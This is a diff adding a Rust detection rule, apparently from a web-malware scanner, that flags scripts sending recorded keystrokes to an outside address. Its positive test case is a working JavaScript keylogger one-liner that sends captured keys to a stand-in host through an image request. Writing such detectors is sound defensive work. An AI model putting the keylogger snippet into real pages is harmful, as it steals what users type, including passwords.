@@ -1,0 +1,20 @@
+//! `keys-sent-abroad`.
+
+use crate::signals::{Atom, Signal, one};
+use crate::{ClassSet, Severity};
+
+pub(super) const SIGNAL: Signal = Signal {
+    id: "keys-sent-abroad",
+    description: "Recorded keys reach an absolute address.",
+    severity: Severity::High,
+    classes: ClassSet::MAGECART.union(ClassSet::MALWARE),
+    needs: &[one(&[Atom::KeysSentAbroad])],
+    within: 0,
+    #[cfg(test)]
+    cases: crate::signals::Cases {
+        with: &[
+            "var k='';document.onkeypress=function(e){k+=String.fromCharCode(e.which)};function s(){new Image().src='//c.example/?k='+k}",
+        ],
+        without: &["document.onkeydown=function(e){if(e.keyCode==27)fetch('https://c.example/closed')}"],
+    },
+};
